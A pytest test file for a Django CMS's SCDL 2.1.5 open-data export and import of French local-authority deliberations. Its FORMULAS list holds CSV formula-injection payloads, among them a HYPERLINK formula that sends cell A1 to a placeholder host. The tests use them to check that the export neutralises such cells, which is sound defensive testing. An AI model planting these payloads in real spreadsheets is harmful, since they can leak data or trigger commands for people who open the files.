"""Open data: the official SCDL 2.1.5 schema, PREF_ID only when real, no formula in any CSV cell, one record per DELIB_ID."""

import csv
import io
import json
from datetime import date
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import IntegrityError, transaction
from frictionless import Resource, Schema

from erbm_cms.base.csv_safety import neutralise, restore
from erbm_cms.deliberations.models import DeliberationPage, PartnerDeliberationsPage
from erbm_cms.deliberations.scdl import COLUMNS

pytestmark = pytest.mark.django_db

SCHEMA_PATH = Path(__file__).resolve().parents[2] / "erbm_cms" / "deliberations" / "data" / "scdl-deliberations-2.1.5.schema.json"

FORMULAS = [
    "=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"Cliquez\")", "+33 1 23", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
    "  =1+1", "\u00a0=1+1", "\u3000@cmd", "＝1+1", "\n-1",
]


def publish(section, **fields):
    values = dict(
        title="Délibération de test", partner=section.partner, deliberating_body="conseil_communautaire",
        session_date=date(2020, 3, 2), number="T-1", actes_code="8.5",
    )
    values.update(fields)
    page = DeliberationPage(**values)
    section.add_child(instance=page)
    page.save_revision().publish()
    return page


def export(client, url="/deliberations/export.csv"):
    text = client.get(url).content.decode("utf-8")
    return text, list(csv.DictReader(io.StringIO(text)))


def validate(text, tmp_path):
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    schema = Schema.from_descriptor(json.loads(SCHEMA_PATH.read_text(encoding="utf-8")))
    report = Resource(path=path.name, basepath=str(tmp_path), schema=schema).validate()
    return [(error.type, getattr(error, "field_name", None)) for task in report.tasks for error in task.errors]


def test_the_shipped_schema_is_the_official_one_with_its_constraints():
    schema = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
    assert schema["version"] == "2.1.5" and schema["homepage"] == "https://gitlab.com/opendatafrance/scdl/deliberations"
    assert [field["name"] for field in schema["fields"]] == COLUMNS
    constraints = {field["name"]: field.get("constraints", {}) for field in schema["fields"]}
    assert constraints["COLL_SIRET"] == {"required": True, "pattern": "^\\d{14}$"}
    assert constraints["DELIB_MATIERE_CODE"]["pattern"] == "^\\d\\.\\d{1,2}$"
    assert constraints["BUDGET_ANNEE"]["pattern"] == "^[0-9]{4}(\\/[0-9]{4})?$"
    pref = next(field for field in schema["fields"] if field["name"] == "PREF_ID")
    assert "'PREFNNN' sur 7 caractères" in pref["description"] and pref["example"] == "PREF038"
    assert {check["name"] for check in schema["custom_checks"]} >= {"sum-columns-value", "compare-columns-value", "french-siret-value"}


def test_hostile_titles_and_numbers_are_never_written_as_formulas_and_the_file_still_validates(client, tmp_path):
    section = PartnerDeliberationsPage.objects.get(partner__siret="20004461800011")  # Douaisis: SIRET known
    for index, formula in enumerate(FORMULAS):
        publish(section, title=f"{formula} objet {index}", number=f"{formula[:20]}#{index}",
                budget_name=formula, session_date=date(2020, 3, 2))
    text, rows = export(client, f"/deliberations/{section.partner.slug}/export.csv")
    cells = [value for row in rows for value in row.values()]
    assert len(rows) == len(FORMULAS) + 2
    for value in cells:
        assert not value.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), repr(value)
    planted = [row for row in rows if "objet" in row["DELIB_OBJET"]]
    assert all(row["DELIB_OBJET"].startswith("'") and row["DELIB_ID"].startswith("'") for row in planted)
    assert validate(text, tmp_path) == []


def test_formulas_come_back_as_typed_when_the_export_is_imported_again(client, tmp_path):
    section = PartnerDeliberationsPage.objects.get(partner__siret="20004461800011")
    publish(section, title="=1+1 reste un objet", number="-12")
    text, _ = export(client, f"/deliberations/{section.partner.slug}/export.csv")
    DeliberationPage.objects.filter(number="-12").delete()
    (tmp_path / "export.csv").write_text(text, encoding="utf-8")
    call_command("import_deliberations", str(tmp_path / "export.csv"), stdout=StringIO())
    assert DeliberationPage.objects.get(number="-12").title == "=1+1 reste un objet"


@pytest.mark.parametrize("value", FORMULAS + ["Objet ordinaire", "2019-04-08", "", "'=déjà neutralisé"])
def test_neutralise_then_restore_gives_the_value_back(value):
    assert restore(neutralise(value)) == value


def test_pref_id_holds_only_a_prefecture_identifier_and_the_transmission_number_keeps_its_own_field(client, tmp_path):
    _, rows = export(client)
    # The demo's transmission numbers are not prefecture identifiers: PREF_ID stays empty.
    assert {row["PREF_ID"] for row in rows} == {""}
    assert DeliberationPage.objects.exclude(transmission_id="").exists()
    section = PartnerDeliberationsPage.objects.get(partner__siret="20004461800011")
    publish(section, number="P-1", prefecture_id="PREF059", transmission_id="059-200044618-20200305-P1-DE")
    row = next(row for row in export(client)[1] if row["DELIB_ID"] == "P-1")
    assert row["PREF_ID"] == "PREF059"
    assert "059-200044618" not in ",".join(row.values())
    page = DeliberationPage(title="x", partner=section.partner, deliberating_body="conseil_communautaire",
                            session_date=date(2020, 3, 2), number="P-2", actes_code="8.5",
                            prefecture_id="062-200044048-20190524-2019077-DE"[:9])
    with pytest.raises(Exception) as refused:
        page.full_clean()
    assert "Indiquez l'identifiant SCDL du service qui exerce le contrôle de légalité" in str(refused.value)


@pytest.mark.parametrize("value", ["PREF059", "PREF062", "SPREF0623", "SGAR059", "PREF02A", "PREF971", "pref059"])
def test_a_real_pref_id_is_imported(tmp_path, value):
    out = import_one(tmp_path, PREF_ID=value)
    assert "ligne 2 : créée" in out, out
    assert DeliberationPage.objects.get(number="I-1").prefecture_id == value.upper()


def test_a_transmission_number_in_pref_id_goes_to_its_field_with_a_warning(tmp_path):
    out = import_one(tmp_path, PREF_ID="062-200044048-20190524-2019077-DE")
    assert "est un numéro de transmission ACTES, pas l'identifiant de la préfecture" in out
    page = DeliberationPage.objects.get(number="I-1")
    assert page.prefecture_id == "" and page.transmission_id == "062-200044048-20190524-2019077-DE"


@pytest.mark.parametrize("value", ["PREF59", "PREF0599", "EXEMPLE-2019-01", "SPREF059", "=PREF059", "PREF 059"])
def test_anything_else_in_pref_id_is_refused_with_a_message(tmp_path, value):
    out = import_one(tmp_path, PREF_ID=value)
    assert "ligne 2 : erreur" in out and "n'est pas un identifiant de contrôle de légalité SCDL" in out, out


def import_one(tmp_path, rows=None, **fields):
    base = {"COLL_NOM": "Douaisis Agglo", "COLL_SIRET": "", "DELIB_ID": "I-1", "DELIB_DATE": "2020-02-03",
            "DELIB_MATIERE_CODE": "8.5", "DELIB_OBJET": "Objet importé"}
    rows = rows or [dict(base, **fields)]
    lines = [";".join(COLUMNS)] + [";".join(dict(base, **row).get(c, "") for c in COLUMNS) for row in rows]
    path = tmp_path / "import.csv"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    out = StringIO()
    try:
        call_command("import_deliberations", str(path), stdout=out)
    except Exception as error:  # a row in error ends the command with a non-zero status
        out.write(str(error))
    return out.getvalue()


def test_delib_ids_differing_only_in_case_are_one_record(tmp_path):
    out = import_one(tmp_path, rows=[{"DELIB_ID": "2020-12a"}, {"DELIB_ID": "2020-12A"}, {"DELIB_ID": " 2020-12A "}])
    assert "ligne 2 : créée" in out and "ligne 3 : déjà importée — Douaisis Agglo n° 2020-12a" in out, out
    assert "ligne 4 : déjà importée" in out
    assert DeliberationPage.objects.filter(number__iexact="2020-12a").count() == 1


def test_a_number_differing_only_in_case_is_refused_by_the_form_rule_and_by_the_database():
    section = PartnerDeliberationsPage.objects.get(partner__siret="20004461800011")
    first = publish(section, number="CASE-a")
    second = publish(section, number="AUTRE-1", title="Autre délibération")
    second.number = "case-A"
    with pytest.raises(Exception) as refused:
        second.full_clean()
    assert "Le numéro « case-A » est déjà utilisé par une autre délibération de ce partenaire" in str(refused.value)
    with transaction.atomic(), pytest.raises(IntegrityError):
        DeliberationPage.objects.filter(pk=second.pk).update(number="Case-A")
    assert DeliberationPage.objects.get(pk=first.pk).number == "CASE-a"
